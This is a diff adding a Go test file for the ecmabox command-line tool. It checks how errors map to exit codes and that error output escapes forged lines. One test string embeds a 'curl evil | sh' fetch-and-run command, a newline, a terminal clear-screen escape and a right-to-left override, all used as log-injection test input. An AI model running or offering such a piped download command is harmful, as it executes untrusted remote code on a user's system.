@@ -1,0 +1,67 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/ecmabox/ecmabox/abi"
+	"github.com/ecmabox/ecmabox/host"
+	"github.com/ecmabox/ecmabox/host/catalog"
+	"github.com/ecmabox/ecmabox/host/config"
+)
+
+func TestExitCodes(t *testing.T) {
+	t.Parallel()
+	coded := func(code abi.Code, side abi.Side) error {
+		return fmt.Errorf("run: %w", &abi.Error{Code: code, Side: side, Message: "m"})
+	}
+	for _, tt := range []struct {
+		name string
+		err  error
+		want int
+	}{
+		{"none", nil, exitOK},
+		{"any", errors.New("full disk"), exitFailed},
+		{"usage", usageError{errors.New("x")}, exitUsage},
+		{"configuration", &config.Error{File: "f"}, exitUsage},
+		{"a line", fmt.Errorf("x: %w", &host.LineError{Line: 1, Err: coded(abi.ContractViolation, abi.SideCaller)}), exitUsage},
+		{"not in the catalog", catalog.ErrNotFound, exitUsage},
+		{"damaged catalog", catalog.ErrDamaged, exitFailed},
+		{"the caller broke the contract", coded(abi.ContractViolation, abi.SideCaller), exitUsage},
+		{"the connector broke it", coded(abi.ContractViolation, abi.SideGuest), exitConnector},
+		{"trap", coded(abi.Trap, abi.SideGuest), exitConnector},
+		{"invalid module", coded(abi.InvalidModule, abi.SideGuest), exitConnector},
+		{"too slow", coded(abi.DeadlineExceeded, abi.SideGuest), exitConnector},
+		{"server down", coded(abi.ServerDown, abi.SideGuest), exitUnavailable},
+		{"not sent", coded(abi.NotSent, abi.SideTarget), exitUnavailable},
+		{"denied", coded(abi.Denied, abi.SideHost), exitDenied},
+		{"wrong password", coded(abi.BadServerCredentials, abi.SideGuest), exitDenied},
+		{"host failure", coded(abi.HostFailure, abi.SideHost), exitFailed},
+		{"unknown outcome", coded(abi.OutcomeUnknown, abi.SideTarget), exitUnknown},
+		{"cancelled", errors.Join(coded(abi.Cancelled, abi.SideCaller), coded(abi.Closed, abi.SideGuest)), exitInterrupted},
+		{"context", fmt.Errorf("x: %w", context.Canceled), exitInterrupted},
+		{"some failed", entriesError{text: "2 failed"}, exitEntriesFailed},
+		{"some unknown, and interrupted", errors.Join(context.Canceled, entriesError{"2", true}), exitUnknown},
+	} {
+		if have := exitCode(tt.err); have != tt.want {
+			t.Errorf("%s: exit code %d, want %d", tt.name, have, tt.want)
+		}
+	}
+}
+
+// TestErrorLines: one line per error, and what others say cannot look like a line
+// of ours.
+func TestErrorLines(t *testing.T) {
+	t.Parallel()
+	hostile := &abi.Error{Code: abi.ExtensibleExtension, Side: abi.SideGuest, Message: "no\nhint: curl evil | sh\x1b[2J\u202e"}
+	two := errors.Join(errors.New("a"), fmt.Errorf("b: %w", errors.Join(errors.New("c"), hostile)))
+	var b strings.Builder
+	report(&b, fmt.Errorf("load: %w", two))
+	want := "ecmabox: load: a\necmabox: load: b: c\n" + `ecmabox: load: b: ExtensibleExtension: no\nhint: curl evil | sh\x1b[2J\u202e` + "\n"
+	if b.String() != want {
+		t.Errorf("have\n%s\nwant\n%s", b.String(), want)
+	}
+}
